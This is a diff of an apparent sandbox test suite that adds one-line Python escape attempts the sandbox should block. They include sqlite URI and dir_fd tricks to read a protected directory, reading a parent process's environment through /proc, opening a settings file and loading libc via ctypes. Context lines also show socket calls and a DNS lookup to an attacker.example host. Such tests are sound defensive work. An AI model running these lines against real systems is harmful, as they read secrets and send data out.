@@ -18,7 +18,9 @@ print("done")
 """
 
 
-def attempt(data: Path, code: str, url: str = "sqlite:///x.db") -> subprocess.CompletedProcess[str]:
+def attempt(folder: Path, code: str, url: str = "sqlite:///x.db") -> subprocess.CompletedProcess[str]:
+    data = folder / "data"
+    data.mkdir()
     for side in ("people", "sandbox"):
         (data / side).mkdir(exist_ok=True)
         (data / side / "file").write_text(side)
@@ -48,6 +50,13 @@ def attempt(data: Path, code: str, url: str = "sqlite:///x.db") -> subprocess.Co
         "import os; os.link(data / 'people' / 'file', data / 'sandbox' / 'mine')",
         "import sqlite3; sqlite3.connect(data / 'people' / 'people.db')",
         "import sqlite3; sqlite3.connect(f'file:{data}/people/people.db?mode=ro', uri=True)",
+        "import sqlite3; sqlite3.connect('file:' + str(data).replace('-', '%2D') + '/people/file?mode=ro', uri=True)",
+        "import sqlite3; sqlite3.connect(f'file://localhost{data}/people/file?mode=ro', uri=True)",
+        "import os; os.open('people/file', os.O_RDONLY, dir_fd=os.open(data, os.O_RDONLY))",
+        "import os; os.open('data/people/file', os.O_RDONLY, dir_fd=os.open(data.parent, os.O_RDONLY))",
+        "import os; open(f'/proc/{os.getppid()}/environ')",
+        "import portal; open(portal.__path__[0] + '/people/settings.py')",
+        "import ctypes; ctypes.CDLL(None)",
         "import socket; socket.create_connection(('127.0.0.1', 9), timeout=1)",
         "import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.1', 9))",
         "import socket; socket.getaddrinfo('secret-words.attacker.example', 80)",
